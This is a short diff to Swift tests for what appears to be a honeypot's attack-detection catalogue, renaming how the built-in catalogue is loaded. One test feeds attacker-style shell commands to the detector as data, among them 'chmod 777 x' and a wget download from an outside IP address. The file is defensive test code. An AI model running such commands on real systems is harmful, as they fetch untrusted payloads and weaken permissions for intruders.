@@ -77,7 +77,7 @@ import ThreatModel
     }
 
     @Test func everyCutAndEveryFlippedByteIsRefusedOrRead() throws {
-        let catalogue = try DetectionCatalogue.builtIn()
+        let catalogue = try BuiltIn.catalogue()
         var session = SessionDetection()
         for line in ["enable", "system", "chmod 777 x", "uname -a", "wget http://198.51.100.7/a"] {
             _ = session.observe(command(line), in: catalogue)
@@ -100,7 +100,7 @@ import ThreatModel
 
     /// A session that guesses passwords for an hour and tries everything stays small.
     @Test func stateStaysSmall() throws {
-        let catalogue = try DetectionCatalogue.builtIn()
+        let catalogue = try BuiltIn.catalogue()
         var session = SessionDetection()
         let attacks = catalogue.behaviours.flatMap(\.examples).filter { $0.protocol == .ssh || $0.protocol == .telnet }
         for example in attacks {
